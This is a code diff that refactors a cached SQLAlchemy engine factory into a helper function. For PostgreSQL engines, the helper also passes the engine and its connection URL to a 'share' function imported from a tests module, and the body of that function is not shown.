@@ -27,11 +27,20 @@ def create_engine(url: str, **options: Any) -> Engine:
     name = make_url(url).get_backend_name()
     kept = _kept.get(name)
     if kept is None or not _knows_its_server(kept.dialect):
-        _kept[name] = sqlalchemy.create_engine(url, query_cache_size=_MOST, **options)
+        _kept[name] = _made(url, **options)
         return _kept[name]
-    engine = sqlalchemy.create_engine(url, query_cache_size=_MOST, _initialize=False, **options)
+    engine = _made(url, _initialize=False, **options)
     engine.dialect = engine.pool._dialect = kept.dialect
     engine._compiled_cache = kept._compiled_cache
+    return engine
+
+
+def _made(url: str, **options: Any) -> Engine:
+    engine = sqlalchemy.create_engine(url, query_cache_size=_MOST, **options)
+    if engine.dialect.name == "postgresql":
+        from tests.sessions import share  # noqa: PLC0415  # an extra
+
+        share(engine, url)
     return engine
 
 
